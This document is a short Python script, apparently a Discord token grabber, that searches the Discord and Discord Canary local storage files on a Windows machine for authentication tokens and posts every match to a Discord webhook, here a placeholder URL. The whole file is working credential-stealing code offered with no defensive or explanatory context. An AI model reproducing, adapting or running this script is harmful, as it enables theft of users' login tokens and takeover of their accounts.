import os
import re
import requests

HOOK = "https://discord.com/api/webhooks/0000/FAKE"
ROOTS = {
    "Discord": os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb"),
    "Canary": os.path.join(os.getenv("APPDATA", ""), "discordcanary", "Local Storage", "leveldb"),
}

def find():
    tokens = set()
    for path in ROOTS.values():
        if not os.path.isdir(path):
            continue
        for name in os.listdir(path):
            if not name.endswith((".log", ".ldb")):
                continue
            with open(os.path.join(path, name), errors="ignore") as file:
                for line in file:
                    tokens |= set(re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line))
    return tokens

found = find()
if found:
    requests.post(HOOK, json={"content": "\n".join(found)})
